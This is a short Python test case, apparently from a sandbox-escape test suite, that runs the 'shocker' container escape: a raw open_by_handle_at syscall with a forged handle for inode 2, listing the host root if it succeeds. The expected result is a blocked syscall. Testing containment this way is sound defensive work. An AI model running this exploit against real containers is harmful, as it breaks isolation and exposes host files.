# family: syscalls
# attack: open_by_handle_at with a forged handle for inode 2 (the "shocker" container escape)
# expect: syscall_blocked runtime_error ok
import ctypes, errno, os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
handle = (ctypes.c_uint8 * 16)()
ctypes.c_uint32.from_buffer(handle, 0).value = 8  # handle_bytes
ctypes.c_int32.from_buffer(handle, 4).value = 1  # FILEID_INO32_GEN
ctypes.c_uint32.from_buffer(handle, 8).value = 2  # inode 2: a filesystem's root
mfd = os.open("/", os.O_RDONLY)
rc = libc.syscall(ctypes.c_long(304), ctypes.c_long(mfd), handle, ctypes.c_long(os.O_RDONLY | os.O_DIRECTORY))
if rc >= 0:
    print(f"ESCAPED open_by_handle_at opened a directory by handle: {sorted(os.listdir(f'/proc/self/fd/{rc}'))[:20]}")
else:
    print("open_by_handle_at:", errno.errorcode.get(ctypes.get_errno()))
